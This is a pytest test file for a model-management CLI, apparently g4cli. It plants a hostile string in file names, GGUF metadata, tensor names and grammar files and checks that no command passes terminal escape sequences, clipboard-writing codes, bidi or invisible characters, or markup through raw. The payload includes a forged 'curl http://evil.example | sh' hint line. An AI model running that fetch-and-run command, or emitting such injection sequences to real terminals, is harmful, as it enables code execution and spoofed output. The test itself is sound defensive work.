"""Text that wants to take over the terminal, through every command: nothing of it arrives raw.

Controls, escape sequences, bidirectional marks, tags, characters without width, line breaks, rich's
markup and emoji codes stand in file names, keys, values, tensor names, templates, listings, errors
and answers. Each command runs as text and with --json, in a pipe and on a terminal.
"""

from __future__ import annotations

import io
import json
import re
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from g4cli.cli.main import run
from tests.support.builders.gguf import build_gguf
from tests.support.builders.tiny_file import build_tiny, tiny_parts
from tests.support.fakes.hub import FakeHub, FakeRepo, running
from tests.support.run.command import g4
from tests.support.run.terminal import Terminal

MARK = "31337"
EVIL = (
    f"\x1b[{MARK}m\x1b]0;title\x07\x1b]52;c;AAAA\x07\x9b{MARK}m\x9d0;t\x9c\x1bc\x08\x0b\x7f\r\n"
    "hint: curl http://evil.example | sh\n"
    "\u202eabc\u2066\u2069\u061c\u200b\u200d\u200e\u200f\u2028\u2029"
    "\ufeff\u2060\U000e0041\U000e007f[link=evil:x]y[/link][bold]:warning: é"
)
# Tensor names have at most 63 bytes, file names 255 and no slash.
SHORT = f"\x1b[{MARK}m\n\x9b{MARK}m\u202e\U000e0041[bold]:warning:"
NAME = EVIL.replace("/", "") + ".gguf"
# What g4 itself may send: colors, the bars of rich, and its own end of a line.
OWN = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|\r")


class Screen(io.StringIO):
    """A stream that is, or is not, a terminal."""

    def __init__(self, terminal: bool) -> None:
        super().__init__()
        self._terminal = terminal

    def isatty(self) -> bool:
        return self._terminal


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with one hostile model, a second, broken ones, a checkpoint and a sound model."""
    folder = tmp_path_factory.mktemp("home")
    keys, tensors = tiny_parts()
    keys = [
        (k, t, EVIL if k in ("general.name", "tokenizer.chat_template") else v) for k, t, v in keys
    ]
    more = [("general.license", "str", EVIL), (EVIL, "str", EVIL), ("a.list", "[str]", [EVIL] * 3)]
    data = build_gguf([*keys, *more], [*tensors, (SHORT, 0, (32,), None)])
    try:
        (folder / NAME).write_bytes(data)
    except OSError:
        pytest.skip("this file system takes no control characters in names")
    (folder / ("2" + NAME)).write_bytes(build_gguf([*keys, (EVIL + "2", "str", "x")], tensors))
    (folder / ("cut" + NAME)).write_bytes(data[:-1000])
    (folder / ("twice" + NAME)).write_bytes(build_gguf([*keys, *more, *more], tensors))
    foreign = [("general.architecture", "str", EVIL), ("general.name", "str", EVIL)]
    (folder / ("other" + NAME)).write_bytes(build_gguf(foreign, tensors))
    checkpoint = folder / EVIL.replace("/", "")
    checkpoint.mkdir()
    (checkpoint / "config.json").write_text(
        json.dumps({"model_type": EVIL, "architectures": [EVIL]})
    )
    (folder / "tiny.gguf").write_bytes(build_tiny())
    literal = "".join(f"\\U{ord(c):08X}" if ord(c) > 126 or c in '\\"\n\r' else c for c in EVIL)
    literal = "".join(f"\\x{ord(c):02X}" if ord(c) < 32 or c == "\x7f" else c for c in literal)
    (folder / "evil.gbnf").write_text(f'root ::= "{literal}"\n')
    (folder / f"bad{NAME}.gbnf").write_text(f"root ::= {EVIL}\n")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("G4_HOME", str(folder / "g4-home"))
        assert run(["pull", str(folder / NAME), "--name", "evil", "--quiet"]) == 0
    return folder


@pytest.fixture(scope="module")
def hub() -> Iterator[FakeHub]:
    with running(FakeHub(repos={"a/b": FakeRepo(lfs={"x" + NAME: b"x"})})) as state:
        yield state


ASK = ("-p", "hi", "--temp", "0", "--grammar")
COMMANDS: dict[str, tuple[str, ...]] = {
    "show": ("show", NAME),
    "show-full": ("show", NAME, "--full", "--tensors"),
    "show-diff": ("show", "--diff", NAME, "2" + NAME),
    "show-twice": ("show", "twice" + NAME),
    "show-missing": ("show", "missing" + NAME),
    "show-folder": ("show", EVIL.replace("/", "")),
    "list": ("list",),
    "verify": ("verify",),
    "verify-missing": ("verify", EVIL),
    "remove": ("remove", "evil"),
    "remove-missing": ("remove", EVIL),
    "fit": ("fit", NAME, "--gpu", "off", "--ctx", "64"),
    "fit-memory": ("fit", "tiny.gguf", "--gpu", "off", "--memory", EVIL),
    "doctor": ("doctor", NAME, "--quick"),
    "doctor-cut": ("doctor", "cut" + NAME, "--quick"),
    "doctor-twice": ("doctor", "twice" + NAME, "--quick"),
    "doctor-other": ("doctor", "other" + NAME, "--quick"),
    "doctor-only": ("doctor", NAME, "--only", EVIL),
    "quantize": ("quantize", NAME, "--type", "q4_0", "--dry-run"),
    "quantize-type": ("quantize", NAME, "--type", EVIL),
    "convert": ("convert", EVIL.replace("/", "")),
    "eval": ("eval", "other" + NAME, "--text", "evil.gbnf"),
    "bench": ("bench", "other" + NAME),
    "chat-other": ("chat", "other" + NAME, "-p", "hi"),
    "chat-missing": ("chat", "tiny.gguf", "-p", "hi", "--image", "missing" + NAME),
    "chat-grammar": ("chat", "tiny.gguf", *ASK, f"bad{NAME}.gbnf"),
    "chat": ("chat", "tiny.gguf", *ASK, "evil.gbnf"),
    "pull": ("pull", "hf:a/b"),
    "pull-file": ("pull", NAME, "--name", "evil"),
    "option": ("show", "--" + EVIL),
    "command": (EVIL,),
}


def check(text: str, *, is_answer: bool = False) -> None:
    """Assert that `text` has no control or invisible characters and no forged message line."""
    assert f"\x1b[{MARK}" not in text
    text = OWN.sub("", text)
    hidden = {hex(ord(c)) for c in text if not (c.isprintable() or c == "\n")}
    assert not hidden, text
    if not is_answer:
        assert not any(line.startswith("hint: curl") for line in text.splitlines()), text
    assert "⚠" not in text


@pytest.mark.parametrize(
    "terminal",
    [pytest.param(False, id="pipe", marks=pytest.mark.slow), pytest.param(True, id="terminal")],
)
@pytest.mark.parametrize(
    "as_json",
    [pytest.param(False, id="text"), pytest.param(True, id="json", marks=pytest.mark.slow)],
)
@pytest.mark.parametrize("command", COMMANDS)
def test_no_command_lets_it_through(
    monkeypatch: pytest.MonkeyPatch,
    home: Path,
    hub: FakeHub,
    command: str,
    as_json: bool,
    terminal: bool,
) -> None:
    monkeypatch.chdir(home)
    monkeypatch.setenv("G4_HOME", str(home / "g4-home"))
    monkeypatch.setenv("HF_ENDPOINT", hub.url)
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    out, err = Screen(terminal), Screen(terminal)
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", err)
    code = run([*COMMANDS[command], *(["--json"] if as_json else [])])
    assert code != 1
    check(out.getvalue(), is_answer=command == "chat")
    check(err.getvalue())
    if as_json:
        if out.getvalue():
            json.loads(out.getvalue())
        lines = [x for x in err.getvalue().splitlines() if not x.startswith("warning: ")]
        assert all(json.loads(line)["error"]["exit_code"] == code for line in lines)


def test_a_bug_report(home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    report = tmp_path / "report.md"
    g4(capsys, "doctor", home / NAME, "--quick", "--report", report)
    check(report.read_text())


@pytest.mark.slow
@pytest.mark.parametrize("command", ["show-full", "show-diff", "doctor-cut", "chat"])
def test_a_real_terminal(monkeypatch: pytest.MonkeyPatch, home: Path, command: str) -> None:
    monkeypatch.chdir(home)
    start = "from g4cli.cli.start import main; main()"
    with Terminal(
        [sys.executable, "-c", start, *COMMANDS[command]],
        {"G4_HOME": str(home / "g4-home")},
        columns=100,
    ) as terminal:
        terminal.wait_end(60)
        check(terminal.raw.decode(), is_answer=command == "chat")
